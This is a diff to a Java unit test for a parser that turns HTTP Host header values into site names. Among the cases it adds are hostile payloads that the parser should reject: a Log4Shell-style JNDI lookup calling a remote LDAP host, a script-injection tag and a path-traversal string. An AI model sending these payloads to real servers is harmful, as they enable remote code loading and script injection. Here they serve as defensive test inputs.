@@ -15,6 +15,14 @@ class SiteNamesTest {
       "[2001:db8::1]|[2001:db8::1]",
       "[2001:DB8::1]:8443|[2001:db8::1]", // an IPv6 literal loses its port, not its colons
       "' '|",
+      // payloads sent as the Host header name no site: the log's own site counts them
+      "'${jndi:ldap://203.0.113.5/a}'|",
+      "'\"><script>alert(1)</script>'|",
+      "shop.example/../etc|",
+      "a b.example|",
+      "[not-an-address]:80|",
+      "_dmarc.example|_dmarc.example",
+      "203.0.113.5:8080|203.0.113.5",
   })
   void aHostFieldNamesItsSite(String host, String site) {
     assertThat(SiteNames.fromHost(host)).isEqualTo(site);
